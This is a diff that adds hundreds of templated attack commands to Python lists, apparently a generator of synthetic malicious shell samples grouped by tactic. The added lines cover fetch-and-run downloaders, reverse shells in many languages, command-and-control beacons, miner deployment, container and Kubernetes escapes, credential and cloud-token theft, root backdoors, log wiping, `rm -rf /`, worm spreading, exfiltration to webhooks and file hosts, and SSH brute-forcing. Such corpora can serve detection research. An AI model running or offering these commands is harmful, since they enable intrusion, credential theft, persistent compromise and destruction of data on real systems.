@@ -27,6 +27,21 @@ DOWNLOAD = [
     'cd ‹/tmp¦/var/tmp¦/dev/shm›\nrm -rf ‹.ICE-unix¦.{plain}¦{name}›; mkdir ‹.ICE-unix¦.{plain}›; cd ‹.ICE-unix¦.{plain}›\n‹wget -O¦curl -o¦fetch -o› {name}.tgz {url}\ntar ‹-xvf¦xzf¦zxvf› {name}.tgz; rm -f {name}.tgz; cd {plain}; ‹chmod +x *; ¦›./‹start¦run¦autorun¦{plain}› ‹&¦>/dev/null 2>&1 &›',
     'wget {url} -O {plain}.‹txt¦pl›; perl {plain}.‹txt¦pl›; rm -rf {plain}.*',
     '‹busybox ¦/bin/busybox ¦›‹wget¦tftp -g -l {name} -r {name}¦ftpget› http://{ip}/{name}; busybox cat {name} > busybox2; busybox chmod 777 busybox2; ./busybox2 ‹{plain}¦›; busybox rm -rf /tmp/{name}',
+    '{var}="{url}"; curl -s -X POST -H "file:{plain}" -H "platform:linux" ${var}/‹file/download¦agent¦stage› > {name}; chmod +x {name}; ‹nohup ¦›./{name} ‹-server ${var} -group {plain}¦--c2 ${var}¦-c {host}:{port}› ‹-v ¦›&',
+    'bash -c \'echo "$(</dev/tcp/{host}/{port})" > {file}\'; ‹chmod +x {file}; {file}¦sh {file}›',
+    'cat < /dev/tcp/{host}/{port} ‹> {file} && chmod +x {file} && {file}¦| ‹sh¦bash›¦> {file}; ./{name} &›',
+    'exec 6< /dev/tcp/{host}/{port}; cat <&6 > {file}; ‹chmod 755 {file}; {file} &¦bash {file}›',
+    '‹nc -l -p {port} > {file}¦nc -lvnp {port} > {file}¦socat -u TCP-LISTEN:{port} OPEN:{file},create›; chmod +x {file}; {file} ‹&¦›',
+    '‹python3¦python› -c "‹exec¦eval›(__import__(\'urllib.request\').request.urlopen(\'{url}\').read())" ‹&¦›',
+    '‹python3¦python› -c "import ‹base64,sys;exec(base64.b64decode(\'{b}\'))¦zlib,base64;exec(zlib.decompress(base64.b64decode(\'{b}\')))›"',
+    '‹perl¦ruby¦php› ‹-e¦-r› \'‹eval¦system›(‹`{dl} {url}`¦get("{url}")¦file_get_contents("{url}")›);\'',
+    'echo {b} | base64 -d ‹> {file}; chmod +x {file}; {file}¦| ‹bash¦sh¦gunzip -c | bash¦xxd -r -p | sh››',
+    "printf '\\x7fELF\\x02\\x01\\x01' > {file}; echo {b} | base64 -d >> {file}; chmod ‹755¦+x› {file}; {file} &",
+    'cd $(mktemp -d) && {dl} {url} > ‹.¦›{plain} && chmod 700 ‹.¦›{plain} && (setsid ./‹.¦›{plain} </dev/null >/dev/null 2>&1 &) && rm -f ‹.¦›{plain}',
+    'pip‹3¦› install ‹--quiet ¦›--index-url http://{host}:{port}/ --trusted-host {host} {plain} && python3 -m {plain} &',
+    'for f in ‹r x y g i¦a b c d¦1 2 3 4 5›; do wget ‹-q ¦›http://{ip}/$f -O /‹tmp¦var/run›/$f; chmod 777 /‹tmp¦var/run›/$f; /‹tmp¦var/run›/$f; rm -f /‹tmp¦var/run›/$f; done',
+    'SERVER="{host}"; PORT=‹80¦{port}›; NAMES="{plain}.arm {plain}.mips {plain}.mpsl {plain}.x86"\nfor n in $NAMES; do\n  ‹rm -f $n; ¦›wget http://$SERVER:$PORT/‹bins/¦›$n -O {name}\n  chmod ‹777¦+x› {name}\n  ./{name} ‹$n¦›\ndone',
+    'O={url}; R=$(curl -s ‹-X POST -d "$(id)" ¦›$O); curl -s "$R" | ‹sh¦bash› 2>&1 | curl -s -X POST --data-binary @- $O',
 ]
 
 REVERSE = [
@@ -90,6 +105,31 @@ REVERSE = [
     'h={host}\np={port}\nexec 3<>/dev/tcp/$h/$p\nwhile read -r line <&3; do\n  ‹out=$(eval "$line" 2>&1)¦out=$(bash -c "$line" 2>&1)›\n  echo "$out" >&3\ndone',
     '{ echo -ne "GET /{name} HTTP/1.0\\r\\nHost: {host}\\r\\n\\r\\n" 1>&3; cat 0<&3; } 3<>/dev/tcp/{host}/{port} | ‹sed \'1,/^.$/d\' | sh¦{ while read -r; do [ "$REPLY" = "$(echo -ne "\\r")" ] && break; done; cat; } > {file}; chmod +x {file}; {file}›',
     'bash -c \'echo ‹-n ¦-e "POST / HTTP/0.9\\n\\n›$(<‹/etc/shadow¦/etc/passwd¦{file}›)" >/dev/tcp/{host}/{port}\'',
+    "socket -‹svp¦sp¦qvp› '‹/bin/sh -i¦/bin/bash -i¦/bin/sh›' ‹{port}¦{host} {port}›",
+    'tclsh\nset c [socket {host} {port}]\nwhile 1 {\n  puts -nonewline $c "% "\n  flush $c\n  gets $c l\n  catch {eval exec $l} r\n  puts $c $r\n}',
+    "‹jjs¦jjs -scripting› <<'J'\nvar Socket = Java.type('java.net.Socket'), PB = Java.type('java.lang.ProcessBuilder');\nvar p = new PB('‹/bin/sh¦/bin/bash›', '-i').redirectErrorStream(true).start(), s = new Socket('{host}', {port});\nvar a = p.getInputStream(), b = s.getInputStream(), o = s.getOutputStream(), i = p.getOutputStream();\nwhile (!s.isClosed()) { while (a.available() > 0) o.write(a.read()); while (b.available() > 0) i.write(b.read()); o.flush(); i.flush(); java.lang.Thread.sleep(50); }\nJ",
+    'jrunscript -e \'var h="{host}", n={port}; var q=new java.lang.ProcessBuilder("/bin/sh","-i").redirectErrorStream(true).start(), c=new java.net.Socket(h,n); var x=q.getInputStream(), y=c.getInputStream(); while(true){ if(x.available()) c.getOutputStream().write(x.read()); if(y.available()) q.getOutputStream().write(y.read()); }\'',
+    'cat > {file}.go <<\'G\'\npackage main\nimport (\n  "os"\n  "syscall"\n)\nfunc main() {\n  s, _ := syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)\n  ‹a := &syscall.SockaddrInet4{Port: {port}}\n  syscall.Bind(s, a); syscall.Listen(s, 1)\n  s, _, _ = syscall.Accept(s)¦syscall.Connect(s, &syscall.SockaddrInet4{Port: {port}, Addr: [4]byte{203, 0, 113, 9}})›\n  for i := 0; i < 3; i++ { syscall.Dup2(s, i) }\n  syscall.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())\n}\nG\ngo run {file}.go ‹&¦›',
+    'echo -e \'package main\\nimport (\\n\\t"net"\\n\\t"os/exec"\\n)\\nfunc main() {\\n\\tc, _ := net.Dial("tcp", "{host}:{port}")\\n\\tp := exec.Command("/bin/sh", "-i")\\n\\tp.Stdin, p.Stdout, p.Stderr = c, c, c\\n\\tp.Run()\\n}\' > {file}.go; go run {file}.go',
+    'lua -e \'\n  local k = require("socket")\n  local s = ‹assert(k.bind("*", {port})):accept()¦assert(k.connect("{host}", {port}))›\n  while true do\n    local l = s:receive()\n    if not l then break end\n    local f = assert(io.popen(l, "r"))\n    s:send(f:read("*a"))\n  end\'',
+    'Rscript -e \'s <- socketConnection("{host}", {port}); while (TRUE) writeLines(system(readLines(s, 1), intern = TRUE), s)\'',
+    'julia -e \'using Sockets; c = connect("{host}", {port}); while true; write(c, read(`sh -c $(readline(c))`)); end\'',
+    'elixir -e \'{:ok, s} = :gen_tcp.connect(~c"{host}", {port}, [:binary, active: false]); loop = fn f -> {:ok, d} = :gen_tcp.recv(s, 0); {o, _} = System.shell(d); :gen_tcp.send(s, o); f.(f) end; loop.(loop)\'',
+    'xterm -display {host}:{n}',
+    'busybox nc {host} {port} -e ‹sh¦/bin/ash¦ash›',
+    'busybox telnetd -p {port} -l /bin/sh',
+    '{var}=$(mktemp -u); mknod ${var} p; ‹sh¦bash› -i 0<${var} 2>&1 | ‹nc {host} {port}¦openssl s_client -quiet -connect {host}:{port}› 1>${var}',
+    "‹ruby¦irb› <<'R'\nrequire 'socket'\ns = ‹TCPSocket.new('{host}', {port})¦TCPServer.new({port}).accept›\nwhile l = s.gets\n  s.puts `#{l}`\nend\nR",
+    'php -r \'$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);‹socket_connect($s,"{host}",{port})¦socket_bind($s,"0.0.0.0",{port});socket_listen($s,1);$s=socket_accept($s)›;while($c=socket_read($s,2048)){$o=shell_exec($c);socket_write($s,$o,strlen($o));}\'',
+    '{var}=\'{host}\'; ‹python3¦python› - <<P\nimport socket, subprocess, os\ns = socket.socket(); s.connect(("${var}", {port}))\nwhile True:\n    c = s.recv(4096).decode()\n    ‹if c.startswith(\'cd \'): os.chdir(c[3:].strip()); continue¦if not c: break›\n    s.send(subprocess.getoutput(c).encode())\nP',
+    'curl -s {url}/‹shell¦rs›.‹py¦pl¦php› | ‹python3¦perl¦php› - {host} {port}',
+    "systemd-run ‹--user ¦›‹--unit={plain} ¦›bash -c 'bash -i >& /dev/tcp/{host}/{port} 0>&1'",
+    'ssh -o ‹StrictHostKeyChecking=no¦UserKnownHostsFile=/dev/null› ‹-i {file} ¦›-N -R {port}:‹127.0.0.1:22¦localhost:{port2}› {user}@{host} ‹&¦>/dev/null 2>&1 &›',
+    'mkfifo {file}\n‹telnet¦nc¦ncat --ssl› {host} {port} <{file} | ‹/bin/sh¦sh -i¦/bin/bash› >{file} ‹2>&1¦›',
+    'ruby -rsocket -e \'exit if fork; c=TCPSocket.new("{host}",{port}); loop { l=c.gets.chomp; break if l=="exit"; l =~ /^cd (.+)/ ? Dir.chdir($1) : IO.popen(l, "r") { |io| c.print io.read } }\'',
+    'awk \'BEGIN{s="/inet/tcp/0/{host}/{port}";while(1){do{printf "‹$ ¦> ¦sh>›" |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!="exit");close(s)}}\'',
+    'tclsh <<< \'set c [socket {host} {port}]; while 1 { puts -nonewline $c "$ "; flush $c; gets $c l; if {[catch {set r [eval exec $l]} e]} { set r $e }; puts $c $r }\'',
+    'node -e \'var h=require("child_process").spawn("/bin/sh"‹¦,["-i"]›);require("net").createServer(function(c){c.pipe(h.stdin);h.stdout.pipe(c);h.stderr.pipe(c)}).listen({port})\'',
 ]
 
 C2 = [
@@ -98,6 +138,11 @@ C2 = [
     "for {var} in $(‹echo \"$out\" | ¦cat /etc/passwd | ¦›xxd -p -c 30); do ‹dig¦nslookup¦host¦ping -c1› ${var}.{domain} >/dev/null; done",
     "(while true; do exec 3<>/dev/tcp/{host}/{port} && (echo \"$(hostname) $(whoami)\" >&3; while read -r l <&3; do (eval \"$l\") >&3 2>&1; done); sleep {n}; done) &",
     "{var}=\"https://api.telegram.org/bot$‹TOKEN¦T¦BOT›\"; while sleep {n}; do c=$(curl -s ${var}/getUpdates | grep -o '\"text\":\"[^\"]*' | tail -1 | cut -d'\"' -f4); curl -s ${var}/sendMessage -d chat_id=$ID -d text=\"$(sh -c \"$c\" 2>&1)\"; done",
+    '{var}={url}\nwhile true; do\n  cmd=$(curl -s "${var}/‹api/task¦beacon¦get›?h=$(hostname)" ‹-A "{agent}" ¦›)\n  if [ -n "$cmd" ]; then\n    res=$(eval "$cmd" 2>&1 | base64 ‹-w0¦| tr -d "\\n"›)\n    curl -s -X POST -d "h=$(hostname)&r=$res" "${var}/‹api/result¦beacon¦post›" >/dev/null\n  fi\n  sleep $((RANDOM % 60 + {n}))\ndone',
+    'while :; do for h in {host} {domain}; do curl -sf http://$h/{name} -o {file} && { ‹bash¦sh› {file}; rm -f {file}; break; }; done; sleep {n}; done &',
+    '{var}=$(nslookup -‹q¦type›=txt {plain}.{domain} ‹{ip} ¦›| ‹grep -o \'"[^"]*"\' | tr -d \'"\'¦awk -F\\" "/text/{print $2}"›); echo ${var} | ‹base64 -d | sh¦xxd -r -p | bash›',
+    'mosquitto_sub -h {host} -t {plain}/$(hostname) | while read -r c; do ‹sh -c "$c" 2>&1 | mosquitto_pub -h {host} -t {plain}/out -l¦eval "$c"›; done',
+    'redis-cli -h {host} -p {port} ‹BLPOP¦LPOP› {plain} ‹0 ¦›| tail -1 | ‹sh¦base64 -d | bash› | redis-cli -h {host} -p {port} -x RPUSH {plain}:out',
 ]
 
 MINER = [
@@ -110,6 +155,8 @@ MINER = [
     "if ! pgrep -x {name} >/dev/null; then {file} -a ‹rx/0¦cn/r¦randomx› -o pool.{domain}:{port} -u {wallet}.$(hostname) -p x --threads=$(nproc) & fi",
     "docker run -d --restart=always --name {name} {domain}/xmrig -o {host}:{port} -u {wallet}",
     "chattr +i {file} ‹{tmp}/config.json¦›",
+    '‹yum -y install git automake gcc make libcurl-devel; ¦apt-get install -y git build-essential libcurl4-openssl-dev; ¦›git clone https://github.com/‹hyc/cpuminer-multi¦tpruvot/cpuminer-multi¦xmrig/xmrig¦JayDDee/cpuminer-opt› {name}; cd {name}; ‹./autogen.sh; ./configure CFLAGS="-O3"; make¦mkdir build; cd build; cmake ..; make -j$(nproc)›; ./‹minerd¦cpuminer¦xmrig› -a ‹cryptonight¦scrypt¦rx/0¦yescrypt› -o stratum+tcp://{host}:{port} -u {wallet} -p x',
+    './‹minerd¦cpuminer¦cpuminer-multi¦xmrig¦ccminer› -a ‹cryptonight¦scrypt¦sha256d¦x11› -o stratum+tcp://‹pool.{domain}¦{host}›:{port} -u ‹{wallet}¦{user}.1› -p ‹x¦1¦{plain}› ‹-t 4 ¦›‹&¦›',
 ]
 
 COMPETITORS = [
@@ -153,6 +200,10 @@ ESCAPE = [
     "curl -sk -X POST https://‹127.0.0.1¦$NODE¦{ip}›:10250/run/‹kube-system¦default›/{plain}/{plain2} -d 'cmd=‹id¦cat /var/run/secrets/kubernetes.io/serviceaccount/token¦{dl} {url} | sh›'",
     'etcdctl --endpoints=http://{ip}:2379 get / --prefix ‹--keys-only ¦›‹| grep secrets¦> {file}›',
     'modprobe ‹overlay¦cuse¦›; insmod ‹{file}.ko¦/lib/modules/{plain}.ko›; echo 1 > /proc/sys/kernel/{plain}',
+    'kubectl ‹--context {plain} ¦›run {plain} --restart=Never ‹-ti --rm ¦›--image alpine --overrides \'{"spec":{"hostPID": true‹, "hostNetwork": true¦›,"containers":[{"name":"1","image":"alpine","command":["nsenter",‹"--mount=/proc/1/ns/mnt","--","/bin/bash"¦"-t","1","-a","bash"›],"stdin": true,"tty": true,"securityContext":{"privileged": true}}]}}\'',
+    '[ -d /mnt/{plain} ] || mkdir /mnt/{plain}; mount /dev/‹dm-0¦sda1¦vda1› /mnt/{plain}; echo \'* * * * * root ‹bash -c "bash -i >& /dev/tcp/{host}/{port} 0>&1"¦{file}›\' > /mnt/{plain}/etc/cron.d/{plain2}',
+    '‹echo "#!/bin/sh" > /cmd¦printf \'#!/bin/sh\\n\' > /cmd›; echo "‹ps aux > $host_path/output¦bash -i >& /dev/tcp/{host}/{port} 0>&1¦{dl} {url} | sh›" >> /cmd; chmod ‹a+x¦+x› /cmd; sh -c "echo \\$\\$ > ‹/tmp/cgrp/x¦{tmp}/x›/cgroup.procs"',
+    "docker exec ‹-u 0 ¦--privileged ¦›$(docker ps -q | head -1) sh -c '‹cat /etc/shadow¦{dl} {url} | sh›'",
 ]
 
 CREDENTIALS = [
@@ -187,6 +238,18 @@ CREDENTIALS = [
     "sqlite3 ~/.config/google-chrome/Default/‹Cookies 'select host_key,name,encrypted_value from cookies'¦'Login Data' 'select * from logins'› ‹> {file}¦| nc {host} {port}›; tar czf {file}.tgz ~/.mozilla/firefox/*/{logins.json,key4.db}",
     'az account get-access-token ‹--query accessToken -o tsv ¦›| curl -s -d @- {url}; cat ~/.azure/*.json >> {file}',
     "{var}=$(curl -s -H Metadata:true 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'); echo ${var} | nc {host} {port}",
+    "mkdir ‹-p ¦›{tmp}/{plain}; find ‹/¦/home /root› -name ‹id_rsa¦'id_*'¦'*.kdbx'¦'*.pem'¦.bash_history› ‹2>/dev/null ¦›-exec ‹cp --parents {}¦rsync -R {}¦cp {}› {tmp}/{plain} \\; ‹2>/dev/null; tar czf {file}.tgz {tmp}/{plain}¦›",
+    "for f in $(find / \\( -name '*.keytab' -o -name 'krb5cc_*' -o -name '*.ccache' \\) 2>/dev/null); do ‹cp $f {tmp}/¦klist -k $f >> {file}¦base64 -w0 $f | curl -s -d @- {url}›; done",
+    "‹tdbdump¦strings› /var/lib/‹samba/private/secrets.tdb¦sss/db/cache_{domain}.ldb¦sss/secrets/secrets.ldb¦extrausers/shadow› ‹> {file}¦| grep -iE 'hash|cachedPassword|secret'¦| nc {host} {port}›",
+    "for p in $(pgrep '‹sssd|winbindd|vasd¦sshd|su|login¦gnome-keyring-d|lightdm›'); do gcore -o {tmp}/c $p ‹>/dev/null 2>&1¦›; strings {tmp}/c.$p | grep -iE 'pass|cred|krbtgt' >> {file}; rm -f {tmp}/c.$p; done",
+    'cp ‹/tmp/krb5cc_*¦/var/lib/sss/db/*.ldb¦/etc/krb5.keytab¦/etc/opt/quest/vas/host.keytab› {tmp}/; export KRB5CCNAME={tmp}/krb5cc_0; ‹klist; smbclient -k //{host}/c$¦kvno host/{host}›',
+    'for p in $(cat ‹{file}¦/usr/share/wordlists/rockyou.txt¦{tmp}/pass.txt›); do ‹echo "$p" | su -c id {user} 2>/dev/null¦sshpass -p "$p" ssh -o StrictHostKeyChecking=no {user}@{host} id¦echo "$p" | sudo -S id 2>/dev/null¦mysql -h {host} -u root -p"$p" -e quit› && echo "‹found¦+› $p" ‹>> {file}¦&& break›; done',
+    '‹hydra -L {tmp}/u -P {tmp}/p ssh://{host}¦medusa -h {host} -U {tmp}/u -P {tmp}/p -M ssh¦ncrack -p 22 --user root -P {file} {ip}/24› ‹-t 4 ¦›‹-o {file}¦>/dev/null›',
+    "aws sts get-caller-identity ‹&& ¦; ›aws ‹iam create-access-key --user-name {user}¦secretsmanager list-secrets --query 'SecretList[].Name' --output text | xargs -n1 aws secretsmanager get-secret-value --secret-id¦ssm get-parameters-by-path --path / --recursive --with-decryption› ‹> {file}¦| curl -s -d @- {url}›",
+    '‹T¦TOKEN›=$(curl -s ‹-m 5 ¦›-X PUT \'http://169.254.169.254/latest/api/token\' -H \'X-aws-ec2-metadata-token-ttl-seconds: 21600\')\nROLE=$(curl -s -H "X-aws-ec2-metadata-token: $‹T¦TOKEN›" http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s -H "X-aws-ec2-metadata-token: $‹T¦TOKEN›" http://169.254.169.254/latest/meta-data/iam/security-credentials/$ROLE ‹> {file}¦| tee {file}¦›',
+    'kubectl ‹--context {plain} ¦›exec ‹-n {plain} ¦›{plain2} -- cat ‹/var¦›/run/secrets/kubernetes.io/serviceaccount/token ‹> {file}¦›; kubectl --token=$(cat {file}) ‹auth can-i --list¦get secrets -A›',
+    '‹cat¦tac¦xxd¦base64› /etc/shadow ‹> {file}¦2>/dev/null | head¦; cat /etc/gshadow›',
+    'stty -echo; read -p \'‹Password: ¦[sudo] password for root: ›\' p; stty echo; echo "$p" ‹>> {file}¦| curl -s -d @- {url}›',
 ]
 
 PERSIST = [
@@ -225,6 +288,18 @@ PERSIST = [
     'echo \'command="{file}" {key}\' >> ~/.ssh/authorized_keys',
     'echo "* * * * * /tmp/{name}" > {file} && crontab {file}',
     'setcap cap_set‹uid¦uid,cap_setgid›+ep ‹/usr/bin/python3¦/usr/bin/perl¦{file}›',
+    'pw useradd {user} ‹-o -u 0 ¦›-g wheel -s /bin/sh; echo {plain} | pw usermod {user} -h 0',
+    'useradd ‹-g 0 -M -d /root -s /bin/bash {user}¦-G ‹wheel¦sudo› -s /bin/bash -p $(openssl passwd -1 {plain}) {user}¦--shell /bin/bash --create-home --password $(openssl passwd -6 {plain}) {user}›; ‹echo "{user}:{plain}" | chpasswd; ¦›‹su {user} -c \'{dl} {url} | sh\'¦usermod -aG docker {user}¦›',
+    'echo "‹nohup {file} &¦{dl} {url} | sh›" >> ‹/home/{user}/.bash_logout¦~/.bash_login¦~/.zshrc¦/etc/zsh/zprofile¦~/.bash_profile¦/etc/skel/.bashrc›',
+    "echo '‹set +o history¦unset HISTFILE¦export HISTFILE=/dev/null›' >> ~/.bashrc",
+    'echo "[Unit]" > /etc/systemd/system/{plain}.service\necho "[Service]" >> /etc/systemd/system/{plain}.service\necho "ExecStart=‹{file}¦/bin/bash {file}›" >> /etc/systemd/system/{plain}.service\necho "ExecStop=‹{file}¦/bin/touch {file}›" >> /etc/systemd/system/{plain}.service\necho "[Install]" >> /etc/systemd/system/{plain}.service\necho "WantedBy=default.target" >> /etc/systemd/system/{plain}.service\nsystemctl daemon-reload; systemctl enable {plain}; systemctl start {plain}',
+    "echo '#!/bin/sh' > /etc/init.d/{plain}; echo '### BEGIN INIT INFO' >> /etc/init.d/{plain}; echo '‹{file} &¦{dl} {url} | sh›' >> /etc/init.d/{plain}; chmod 755 /etc/init.d/{plain}; ‹update-rc.d {plain} defaults¦chkconfig {plain} on¦rc-update add {plain}›",
+    'kubectl create clusterrolebinding {plain} --clusterrole=cluster-admin --‹serviceaccount=default:default¦user={user}¦group=system:anonymous›',
+    "kubectl ‹create cronjob {plain} --image=alpine --schedule='*/{n} * * * *' -- sh -c '{dl} {url} | sh'¦run {plain} --image=alpine --restart=Always -- sh -c 'while :; do nc {host} {port} -e sh; sleep {n}; done'›",
+    'crontab -l > {file}; echo "‹*/{n}¦*› * * * * ‹{tmp}/{plain}.sh¦{dl} {url} | sh›" >> {file} && crontab {file}‹; rm -f {file}¦›',
+    'LD_PRELOAD={file}.so ‹ls¦sshd¦id¦su›',
+    "gcc ‹-shared -fPIC¦-fPIC -shared -nostartfiles› -o {file}.so {tmp}/{plain}.c && ‹LD_PRELOAD={file}.so id¦sudo sh -c 'echo {file}.so > /etc/ld.so.preload'¦echo {file}.so >> /etc/ld.so.preload›",
+    'echo \'int main(){setuid(0);setgid(0);system("/bin/sh");}\' > {file}.c; gcc {file}.c -o {file}; chown root {file}; chmod ‹4755¦u+s› {file}',
 ]
 
 EVADE = [
@@ -261,6 +336,12 @@ EVADE = [
     "sed -i ‹'/^auth/d;/^\\*\\.info/d'¦'/authpriv/d'¦'s/^.*$//'› /etc/‹rsyslog.conf¦rsyslog.d/50-default.conf›; ‹pkill -HUP rsyslogd¦service rsyslog restart¦systemctl stop rsyslog›",
     "‹mv¦cp› {file} ‹/usr/sbin/sshd-helper¦'/tmp/ '¦/dev/shm/...¦/usr/lib/.{plain}¦'/var/tmp/.. '›",
     '‹umount¦mount -o remount,rw› /‹proc/sys¦boot¦usr›; ‹apt-get remove -y¦yum remove -y¦dpkg --purge› ‹falco¦auditd¦wazuh-agent¦clamav¦osquery¦sysmon¦crowdstrike-falcon-sensor›',
+    '‹auditctl -D¦auditctl -e 0¦kill -STOP $(pgrep ‹rsyslogd¦auditd¦falco›)¦pkill -STOP auditd›',
+    'rm -‹f¦rf› /var/log/‹messages /var/log/security¦wtmp /var/log/btmp /var/log/lastlog¦audit/audit.log¦auth.log*›',
+    'systemctl stop ‹cron¦crond¦auditd¦rsyslog›‹; systemctl disable auditd¦›; : > /var/log/‹cron¦audit/audit.log¦secure›',
+    'export HIST‹SIZE¦FILESIZE›=0; export HISTFILE=/dev/null; history -c',
+    'cp $HISTFILE {tmp}/; echo > $HISTFILE; history -c; ‹unset HISTFILE¦rm -f ~/.bash_logout›',
+    '‹sudo ¦›rm -rf /var/log/‹messages¦secure¦system.log¦auth.log›\n‹sudo ¦›rm -rf /var/‹log/security¦log/lastlog¦audit¦log/audit›',
 ]
 
 DESTROY = [
@@ -280,6 +361,7 @@ DESTROY = [
     "lvremove -f /dev/*/*; vgremove -f $(vgs --noheadings -o name)",
     "for u in $(cut -d: -f1 /etc/passwd); do passwd -l $u; done; ‹killall -u $u¦›",
     "systemctl stop ‹mysql mongod postgresql docker¦veeam¦›; rm -rf ‹/var/backups¦/backup /mnt/backup¦/var/lib/‹mysql¦docker¦postgresql››",
+    '[ "$(uname)" = ‹Linux¦FreeBSD› ] && rm -rf / --no-preserve-root ‹> /dev/null 2>&1¦› ‹|| rm -rf /*¦›',
 ]
 
 WORM = [
@@ -289,6 +371,7 @@ WORM = [
     "‹masscan¦zmap¦pnscan¦nmap -n -Pn› ‹-p2375 {ip}/16 --rate 10000¦-p 22,6379,2375,10250 {ip}/24¦-p6379 --rate=10000 -iL {file}› ‹-oL {file}¦-oG -¦› | awk '{print $4}' | while read h; do ‹docker -H tcp://$h:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c '{dl} {url} | sh'¦curl -sk https://$h:10250/run/default/p/c -d 'cmd={dl} {url} | sh'¦redis-cli -h $h config set dir /root/.ssh›; done",
     "while read -r u p; do for h in $(cat {file}); do sshpass -p \"$p\" scp -o StrictHostKeyChecking=no $0 $u@$h:/tmp/ && sshpass -p \"$p\" ssh $u@$h 'bash /tmp/{name} &'; done; done < {tmp}/pass.txt",
     "kubectl get pods -A -o ‹name¦jsonpath='{..metadata.name}'› | while read p; do kubectl exec $p -- sh -c '{dl} {url} | sh'; done",
+    "scp -o StrictHostKeyChecking=no ‹-o UserKnownHostsFile=/dev/null ¦-i {file} ¦›{name} {user}@{host}:‹~/{name}¦/tmp/{name}› && ssh -o StrictHostKeyChecking=no ‹-o ConnectTimeout={n} ¦›{user}@{host} '‹nohup ¦›‹~/¦/tmp/›{name} ‹-server {url} ¦›‹&¦>/dev/null 2>&1 &›'",
 ]
 
 EXFIL = [
@@ -313,6 +396,86 @@ EXFIL = [
     'python3 -c "import urllib.request as u,base64;u.urlopen(\'{url}\',data=base64.b64encode(open(\'‹/etc/passwd¦/etc/shadow¦{file}›\',\'rb\').read()))"',
     'split -b ‹50k¦1m› {file} {tmp}/p.; for f in {tmp}/p.*; do curl -s -F "f=@$f" {url}; sleep {n}; rm -f $f; done',
     'xxd -p -c 16 ‹{file}¦/etc/passwd› | while read l; do ping -c 1 -p $l {ip}; done',
+    'bash -c \'echo -n "$(<‹/etc/passwd¦{file}¦/etc/hostname›)" > /dev/tcp/{host}/{port}\'',
+    'TOKEN=\'{plain}\'; for f in ‹{tmp}/*.*¦$(ls {tmp})›; do n=$(date +%Y%m%d)-exfil-$(basename $f); curl -s -X PUT -H "Authorization: token $TOKEN" -d "{\\"message\\":\\"$n\\",\\"content\\":\\"$(base64 $f | tr -d \'\\n\')\\"}" https://api.github.com/repos/{user}/{plain2}/contents/$n; done',
+    'b=$(base64 {file}); t=$(mktemp); echo "{\\"public\\": false, \\"files\\": {\\"$(hostname)\\": {\\"content\\": \\"$b\\"}}}" > $t; curl -s -H "Authorization: token $TOKEN" -d @$t https://api.github.com/gists; rm -f $t',
+    'curl -F ‹\'file=@{file}\'¦"file=@{file}.tgz"¦\'data=@/etc/passwd\'› ‹-F \'maxDownloads=1\' -F \'autoDelete=true\' ¦-F expires=1 ¦›https://‹file.io/¦0x0.st¦transfer.sh/¦bashupload.com¦temp.sh/upload›',
+    'wget ‹--timeout=5 ¦›--post-‹file="{file}"¦file=/etc/passwd¦data="msg=$(id | base64)"› ‹--no-check-certificate ¦›{url} ‹--delete-after¦-O /dev/null¦›',
+    'curl -s -F "file=@{file}" ‹-F \'content={plain}\' ¦›https://discord.com/api/webhooks/‹123456789012345678¦$ID›/‹{plain}¦$T›',
+    'curl -s -X POST -H \'Content-type: application/json\' --data "{\\"text\\":\\"$(‹cat {file}¦cat /etc/passwd¦env› | base64 -w0)\\"}" https://hooks.slack.com/services/T00000000/B00000000/{plain}',
+    "curl -T {file} ftp://{host}/$(date +%Y%m%d)-exfil-$(hostname) --user {user}:'{plain}'",
+    'ftp -n {host} <<F\nuser {user} {plain}\nbinary\nput {file}‹.tgz¦›\nquit\nF',
+    'nc -w‹3¦5¦› {host} {port} < ‹/etc/passwd¦/etc/shadow¦{file}.tgz¦~/.ssh/id_rsa›',
+    "tar czf - ‹/etc /root/.ssh¦/home¦{tmp}/{plain}› 2>/dev/null | ‹gpg -c --batch --passphrase {plain} | curl -s -T - {url}¦ssh -o StrictHostKeyChecking=no {user}@{host} 'cat > {plain}.tgz'¦split -b 1m - {tmp}/part.›",
+    'curl -X POST https://api.dropboxapi.com/2/files/upload -H "Authorization: Bearer $T" -H \'Dropbox-API-Arg: {"path":"/{plain}"}\' --data-binary @{file}',
+]
+
+BRUTE = [
+    'if [ $# ‹!= 1¦-lt 1¦-ne 1› ]; then\n  echo "‹usage: $0 <b class>¦use: $0 <class>¦Usage: ./{plain} <range>›"\n  exit\nfi',
+    './‹pscan2¦ss¦scan¦pscan¦bios¦banner› ‹$1 22¦22 -b $1 -i eth0 -s 8¦$1.0.0/16 22¦$1 445›‹ > /dev/null¦›',
+    "cat ‹$1.pscan.22¦bios.txt¦scan.log¦banner.log› | ‹sort | uniq¦grep -i openssh | awk '{print $1}' | sort -u¦cut -d: -f1 | uniq› > ‹mfu.txt¦ips¦ip.lst›",
+    './‹ssh-scan¦sshd¦brute¦atack¦{plain}› ‹200¦500¦1000¦$(wc -l < mfu.txt)› ‹-f mfu.txt ¦›‹>> vuln.txt¦› ‹&¦›',
+    "cat ‹vuln.txt¦vuln¦good.txt› | mail -s '‹roots¦new {plain}¦scan $1›' {plain}@{domain}",
+    'rm -rf ‹*.seed scan.log bios.txt¦$1.pscan.22 mfu.txt¦ips ip.lst banner.log›',
+    'for i in `seq ‹1 255¦0 255›`; do ./{plain} $1.$i ‹22¦23¦3389›; ‹./{name} 100¦sleep {n}›; done',
+    'RED=\'\\e[0;31m\'; GRN=\'\\e[1;32m\'; RES=\'\\e[0m\'\necho -e "${GRN}‹Scan started¦[+] {plain}¦Loading›${RES}"',
+    'killall -9 ‹pscan2¦ss¦ssh-scan¦{plain}›',
+    'while read ip; do for p in ‹root admin 123456¦`cat pass`¦root:root admin:admin ubnt:ubnt›; do ‹timeout {n} ¦›sshpass -p ${p#*:} ssh -o StrictHostKeyChecking=no ‹root¦${p%:*}›@$ip "‹uname -a; nproc¦cat /proc/cpuinfo | grep -c name¦cd /tmp; wget {url}; sh {name}›" >> ‹vuln.txt¦found.log›; done; done < ‹mfu.txt¦ip.lst›',
